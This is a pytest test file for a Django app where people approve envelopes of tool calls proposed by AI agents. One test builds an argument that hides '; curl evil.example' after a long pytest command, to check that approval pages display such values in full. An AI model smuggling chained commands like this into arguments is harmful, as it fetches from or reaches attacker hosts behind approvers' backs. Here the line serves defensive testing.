"""Pages of envelopes: the form of a proposal, the desk, the list, and the page with what is used."""

from datetime import timedelta
from typing import Any

import pytest
from django.contrib.auth.models import User

from approvals.models import Envelope
from catalog.access.tokens import create_token
from catalog.core import clock
from catalog.core.canonical_json import format_utc
from catalog.inventory.snapshot import CallableTool
from plans.store.requesters import Requester
from tests.approvals.factories import call_within, item, open_envelope
from tests.approvals.factories import propose as propose_by_call
from tests.pages import Pages
from tests.rest import Rest

ROWS = "value in a, b\n"
FORM = {"purpose": "Tidy up", "scope": "session", "ref": "errand", "minutes": "30", "items": "1"}
ITEM = {"item-0-tool": "dangerous", "item-0-arguments": ROWS, "item-0-count": "3"}


@pytest.fixture
def agent(stage: Any, ada: User, settings: Any, read_anew: Any) -> Requester:
    settings.TOOLGATE_UNDO_SECONDS = 0
    return Requester(ada, create_token(user=ada, kind="agent", scopes=["calls:create"])[0], "mcp")


def test_person_proposes_by_form(agent, ada, rosa):
    pages = Pages(ada)
    assert "No envelopes yet" in pages.open("/envelopes/")
    pages.open("/envelopes/new/?scope=session&ref=errand")
    assert pages.send("/envelopes/new/", FORM | ITEM | {"do": "add"}).count("Calls at most") == 2
    wrong = FORM | ITEM | {"item-0-arguments": "value is a"}
    assert "Write path, operator and value" in pages.send("/envelopes/new/", wrong, status=422)
    wrong = FORM | ITEM | {"item-0-arguments": "other exists"}
    assert "has no argument other" in pages.send("/envelopes/new/", wrong, status=422)
    words = pages.send("/envelopes/new/", FORM | ITEM | {"do": "propose"})
    assert "Proposed" in words and "calls in the session errand" in words and "at most 3" in words
    assert "Tidy up" in Pages(rosa).open("/envelopes/?status=proposed")
    envelope = Envelope.objects.get()
    assert (envelope.scope, envelope.requester, envelope.status) == ("session", ada, "proposed")


def test_proposal_that_another_process_makes_is_announced_on_the_list(agent, ada, rosa, monkeypatch):
    monkeypatch.setattr(CallableTool, "drifted", property(lambda self: True))
    pages = Pages(ada)
    pages.open("/envelopes/new/")
    words = pages.send("/envelopes/new/", FORM | ITEM | {"do": "propose"})
    assert "Another version of this server proposes the envelope" in words
    sent: dict[str, Any] = {
        "purpose": "Tidy up",
        "items": [item()],
        "expires_at": format_utc(clock.now() + timedelta(hours=1)),
    }
    sent["for"] = {"session": "errand"}
    assert Rest(ada).post("envelopes/", sent).status_code == 409
    assert not Envelope.objects.exists()


@pytest.mark.parametrize("value", ["equals " + "[" * 100_000, "equals NaN", "in 1, NaN", "starts_with 5", "equals"])
def test_value_that_is_no_json_is_a_text(value, agent, ada):
    """Like in the form of a policy; here the argument is a number, so the text is refused at its item."""
    pages = Pages(ada)
    pages.open("/envelopes/new/")
    sent = FORM | ITEM | {"item-0-arguments": f"value {value}", "do": "propose"}
    assert "1 problem" in pages.send("/envelopes/new/", sent, status=422)
    assert not Envelope.objects.exists()


def test_desk_shows_the_proposal_as_a_table_with_the_agents_words_apart(agent, rosa):
    envelope = propose_by_call(agent, item(count=7, sum={"path": "value", "at_most": 12.5}), purpose="Pay <b>all</b>")
    words = Pages(rosa).open(f"/approvals/?item={envelope.call.approval.public_id}")
    assert "Pay <b>all</b> Written by the requester. Not checked." in words
    assert "calls through the token" in words and "at most 7 calls" in words and "at most 12.5 over all" in words
    assert "without arguments" not in words


def test_desk_shows_all_of_every_bound(agent, rosa):
    """A cut value could hide its end from those who approve it."""
    command = f"pytest {'test_of_one_thing.py ' * 20}; curl evil.example"
    rows = [{"path": "value", "operator": "in", "value": [command, {"deep": command}]}]
    envelope = propose_by_call(agent, item(rows=rows, sum={"path": "value", "at_most": 1234567.25}))
    for path in (f"/approvals/?item={envelope.call.approval.public_id}", f"/envelopes/{envelope.public_id}/"):
        words = Pages(rosa).open(path)
        assert words.count("; curl evil.example") >= 2 and "1,234,567.25" in words


def test_page_shows_promised_beside_used_and_ends_the_envelope(agent, ada, ben, rosa):
    envelope = open_envelope(agent, rosa, item(count=2))
    call_within(agent)
    outside = call_within(agent, tool="dangerous_hasty")
    path, pages = f"/envelopes/{envelope.public_id}/", Pages(ada)
    words = pages.open(path)
    assert "1 of 2 calls" in words and "The envelope has no calls of this tool." in words
    desk = Pages(rosa).open(f"/approvals/?item={outside.approval.public_id}")
    assert "Outside an envelope" in desk and "The envelope has no calls of this tool." in desk
    Pages(ben).open(path, status=404 if not ben.groups.exists() else 200)
    assert "Say why the envelope ends." in pages.send(f"{path}end/", {"reason": " "}, status=422)
    assert "Envelope ended" in pages.send(f"{path}end/", {"reason": "Enough"})
    assert "Ended by Ada: Enough" in pages.open(path)
    assert pages.client.get(path, headers={"HX-Request": "true", "HX-Target": "envelope-live"}).status_code == 200


def test_call_names_its_envelope_on_its_page(agent, ada, rosa):
    envelope = open_envelope(agent, rosa)
    call = call_within(agent)
    words = Pages(ada).open(f"/plans/{call.plan_ref}/?step=1")
    assert envelope.public_id[:10] in words and "ran inside it" in words
